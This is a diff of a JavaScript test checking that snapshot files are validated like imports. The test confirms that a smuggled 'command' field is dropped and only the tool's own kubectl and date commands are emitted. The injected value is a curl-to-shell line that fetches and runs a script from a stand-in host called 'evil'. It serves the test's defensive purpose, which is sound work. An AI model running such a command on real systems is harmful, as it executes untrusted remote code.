@@ -77,6 +77,6 @@ describe('a snapshot file is checked like an import', () => {
     const text = filed({ gaps: [{ kind: 'pod-unmanaged', pod: 'shop/a', decides: true }] })
     const opened = readSnapshot('x.json', text.replace('"pod":"shop/a"', '"pod":"shop/a","command":"curl evil | sh"'))
     const lines = checkSnapshot(opened).gaps.map(({ command }) => command)
-    expect(lines).toEqual(['kubectl -n shop get ciliumendpoint a -o json'])
+    expect(lines).toEqual(['kubectl -n shop get ciliumendpoint a -o json', 'date -u +%FT%TZ'])
   })
 })
